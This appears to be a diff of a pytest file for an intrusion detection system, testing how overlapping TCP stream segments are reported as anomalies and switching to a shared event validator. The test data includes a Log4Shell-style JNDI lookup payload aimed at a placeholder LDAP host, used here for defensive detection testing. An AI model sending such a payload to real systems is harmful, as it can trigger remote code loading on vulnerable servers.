@@ -2,18 +2,16 @@
 
 from __future__ import annotations
 
-import json
 from collections.abc import Sequence
 from typing import Any
 
-import jsonschema
 import pytest
 from scapy.layers.inet import IP, TCP
 from scapy.layers.l2 import Ether
 
 from ids.testing import Session
 from plugins.rules import Rules
-from tests.shared import shared
+from tests.shared import event_validator
 
 DECOY, EXPLOIT = b"GET /index.html?q=12345678901 HTTP/1.1\r\n", b"GET /${jndi:ldap://192.0.2.9} HTTP/1.1\r\n"
 REST = b"Host: www.example.org\r\n\r\n"
@@ -69,7 +67,7 @@ def test_a_conflict_is_written_as_an_anomaly() -> None:
     (anomaly,) = (event for event in wire.events("anomaly") if event["anomaly"]["type"] == "stream")
     assert anomaly["anomaly"]["event"] == "stream.reassembly_overlap_different_data"
     assert anomaly["src_ip"] == "192.0.2.1"
-    jsonschema.validate(anomaly, json.loads(shared("eve-schema.json").read_text()))
+    event_validator().validate(anomaly)
 
 
 def test_a_conflict_drops_the_flow_only_where_settings_say_so() -> None:
